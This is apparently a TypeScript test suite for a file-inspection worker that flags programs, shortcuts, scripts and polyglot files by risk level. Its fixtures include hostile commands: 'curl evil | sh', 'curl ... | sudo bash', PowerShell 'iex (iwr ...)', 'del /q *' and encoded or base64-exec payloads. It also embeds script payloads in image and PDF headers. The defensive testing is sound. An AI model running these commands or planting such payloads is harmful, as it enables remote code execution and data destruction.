import { describe, expect, test } from 'vitest';
import { levelOf, type Report } from '../../../src/workers/inspect/report.ts';
import { concat, latin1 } from '../../files/bytes.ts';
import { dmg, elf, fatMacho, gif, iso, javaClass, jpeg, lnk, macho, msi, pdf, pe } from '../../files/executables.ts';
import { gzip } from '../../files/gzip.ts';
import { mutated, truncated } from '../../files/mutated.ts';
import { randomOf } from '../../files/random.ts';
import { rar5 } from '../../files/rar.ts';
import { zip } from '../../files/zip.ts';
import { findingOf, inspect } from './inspecting.ts';

function codes({ findings }: Report): string[] {
  return findings.map(({ code }) => code);
}

function fact({ facts }: Report, label: Report['facts'][number]['label']): unknown {
  return facts.find((one) => one.label === label)?.params.value;
}

describe('programs are called dangerous, and say for what they are made', () => {
  const programs = [
    ['Windows', pe(), 'program-windows', 'x86-64', 'window, program'],
    [
      'Windows, a library of .NET',
      pe({ machine: 0x14c, library: true, net: true }),
      'program-windows',
      'x86',
      'window, library, .NET',
    ],
    ['Linux', elf(), 'program-linux', 'x86-64', 'program'],
    ['macOS', macho(), 'program-macos', 'ARM64', 'program'],
    ['macOS, two processors', fatMacho(), 'program-macos', 'x86-64, ARM64', undefined],
    ['Java', javaClass(), 'program-java', undefined, undefined],
    ['a Windows installer', msi(), 'installer', undefined, undefined],
    ['an ISO image', iso(), 'disk-image', undefined, undefined],
    ['a macOS disk image', dmg(), 'disk-image', undefined, undefined],
  ] as const;
  for (const [what, bytes, code, machine, kind] of programs) {
    test(what, async () => {
      const report = await inspect(bytes, 'thing');
      expect(codes(report)).toEqual([code]);
      expect(levelOf(report)).toBe('dangerous');
      expect([fact(report, 'machine'), fact(report, 'kind')]).toEqual([machine, kind]);
    });
  }

  test('a program that is packed says with what, and whether it is signed', async () => {
    const report = await inspect(pe({ sections: ['UPX0', 'UPX1'], signed: true }), 'setup.exe');
    expect(findingOf(report, 'program-packed')).toEqual({ packer: 'UPX' });
    expect(report.facts).toContainEqual({ label: 'signature', code: 'signed', params: {} });
  });

  test('an app for Android and a program of Java are archives and programs', async () => {
    const apk = await inspect(
      zip([{ path: 'AndroidManifest.xml' }, { path: 'classes.dex', content: 'dex' }]),
      'game.apk',
    );
    expect([apk.type, codes(apk), levelOf(apk)]).toEqual(['apk', ['program-android'], 'dangerous']);
    const manifest = 'Manifest-Version: 1.0\r\nMain-Class: org.example.Main\r\n';
    const jar = await inspect(
      zip([{ path: 'META-INF/MANIFEST.MF', content: manifest }, { path: 'Main.class' }]),
      'game.jar',
    );
    expect([jar.type, codes(jar), fact(jar, 'mainClass')]).toEqual(['jar', ['program-java'], 'org.example.Main']);
  });
});

describe('shortcuts say what they open', () => {
  test('of Windows, with a command', async () => {
    const report = await inspect(lnk({ words: '/c powershell -w hidden' }), 'photo.lnk');
    const target = 'C:\\Windows\\System32\\cmd.exe /c powershell -w hidden';
    expect(findingOf(report, 'shortcut-command')).toEqual({ target });
    expect(fact(report, 'opens')).toBe(target);
    expect(levelOf(report)).toBe('dangerous');
  });

  test('of Windows, to a file', async () => {
    expect(codes(await inspect(lnk(), 'photo.lnk'))).toEqual(['shortcut']);
  });

  test('to a page, whose address is among the links', async () => {
    const report = await inspect('[InternetShortcut]\r\nURL=https://example.org/login\r\n', 'bank.url');
    expect(report.links).toEqual(['https://example.org/login']);
    expect(findingOf(report, 'shortcut')).toEqual({ target: 'https://example.org/login' });
  });

  test('of Linux, with a command', async () => {
    const report = await inspect('[Desktop Entry]\nType=Application\nExec=sh -c "curl evil | sh"\n', 'photo.desktop');
    expect(findingOf(report, 'shortcut-command')).toEqual({ target: 'sh -c "curl evil | sh"' });
  });
});

describe('scripts', () => {
  const scripts = [
    ['one that Windows runs', 'del /q *', 'clean.bat', ['script-windows'], 'dangerous'],
    ['one with an interpreter', '#!/bin/sh\necho hi\n', 'hi', ['script'], 'careful'],
    ['source that people show each other', 'print("hi")\n', 'hi.py', ['script'], 'safe'],
    [
      'one that fetches and runs',
      '#!/bin/sh\ncurl -s https://example.org/x | sudo bash\n',
      'a.sh',
      ['script', 'script-download'],
      'dangerous',
    ],
    [
      'PowerShell that fetches and runs',
      'iex (iwr https://example.org/x.ps1)',
      'a.ps1',
      ['script', 'script-download'],
      'dangerous',
    ],
    [
      'one that hides what it does',
      `powershell -enc ${'QUJD'.repeat(20)}`,
      'a.cmd',
      ['script-windows', 'script-hidden'],
      'dangerous',
    ],
    [
      'Python that hides what it does',
      'exec(base64.b64decode("cHJpbnQ="))',
      'a.py',
      ['script', 'script-hidden'],
      'dangerous',
    ],
  ] as const;
  for (const [what, text, name, expected, level] of scripts) {
    test(what, async () => {
      const report = await inspect(text, name);
      expect([report.type, levelOf(report)]).toEqual(['script', level]);
      expect(codes(report).filter((code) => code.startsWith('script'))).toEqual(expected);
    });
  }

  test('a megabyte of nearly-commands is judged in time', async () => {
    const report = await inspect('curl curl -enc exec( '.repeat(50_000), 'a.sh', { milliseconds: 5_000 });
    expect(report.type).toBe('script');
  });
});

describe('a file that is two things at once', () => {
  const archive = zip([{ path: 'evil.js', content: 'alert(1)' }]);
  const both = [
    ['a GIF and a ZIP', concat([gif, archive]), 'ZIP'],
    ['a JPEG and a ZIP whose places count from its own start', concat([jpeg, archive]), 'ZIP'],
    ['a PDF and a ZIP', concat([pdf, archive]), 'ZIP'],
    ['a JPEG and a RAR', concat([jpeg, rar5([{ path: 'a', size: 1 }])]), 'RAR'],
    ['a JPEG and a page', concat([jpeg, latin1('<html><script>alert(1)</script>')]), 'HTML'],
    [
      'a GIF and a page in its comment',
      concat([gif.subarray(0, 19), latin1('!\xfe\x20<script>alert(1)</script>\0;')]),
      'HTML',
    ],
    ['a PDF and a page behind it', concat([pdf, latin1('<script>alert(1)</script>')]), 'HTML'],
    ['a PDF and a page in front of it', concat([latin1('<html><script>alert(1)</script></html>\n'), pdf]), 'HTML'],
    ['a PDF and a page in its first comments', concat([latin1('%PDF-1.4\n%<script>alert(1)</script>\n'), pdf]), 'HTML'],
    [
      'a GIF and a script',
      latin1('GIF89a/*\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;*/=1;alert(1)'),
      'JavaScript',
    ],
    ['a JPEG and a Windows program', concat([jpeg, pe()]), 'EXE'],
    ['a GIF and a PDF', concat([gif, pdf]), 'PDF'],
    [
      'a page and an archive with a script in front',
      concat([latin1('\0\x01<html><script>alert(1)</script>'), archive]),
      'HTML',
    ],
    ['a page in the name of a gzip file', gzip('hello', { name: '<script>alert(1)</script>' }), 'HTML'],
  ] as const;
  for (const [what, bytes, also] of both) {
    test(what, async () => {
      const report = await inspect(bytes, 'thing');
      expect(report.findings).toContainEqual({ code: 'polyglot', level: 'dangerous', params: { also } });
    });
  }

  test('a program that unpacks itself is one by design', async () => {
    const report = await inspect(concat([pe(), archive]), 'setup.exe');
    expect(report.findings).toContainEqual({ code: 'polyglot', level: 'careful', params: { also: 'ZIP' } });
  });

  test('a plain picture, a plain PDF, a plain archive and noise are one thing', async () => {
    const random = randomOf(11);
    const noise = Uint8Array.from({ length: 300_000 }, () => random.below(256));
    const titled = concat([latin1('%PDF-1.4\n%\xe2\xe3\n1 0 obj <</Title (All about <script> tags)>> endobj\n'), pdf]);
    for (const bytes of [gif, jpeg, pdf, titled, archive, noise, concat([jpeg, noise])]) {
      expect(codes(await inspect(bytes, 'thing'))).not.toContain('polyglot');
    }
  });
});

const GOOD = [
  pe({ sections: ['.text', 'UPX0'] }),
  elf(),
  macho(),
  fatMacho(),
  msi(),
  lnk({ words: '/c calc' }),
  javaClass(),
];

test('cut off anywhere, it is still described without an error', async () => {
  for (const bytes of GOOD) {
    for (const part of truncated(bytes))
      expect(levelOf(await inspect(part, 'thing'))).toMatch(/safe|unseen|careful|dangerous/);
  }
});

test('changed at random, none of them is an error', async () => {
  const random = randomOf(20);
  for (let round = 0; round < 5_000; round++) {
    const report = await inspect(mutated(GOOD[round % GOOD.length] ?? pe(), random), 'thing', { milliseconds: 1_500 });
    expect(report.limits).toEqual([]);
  }
});
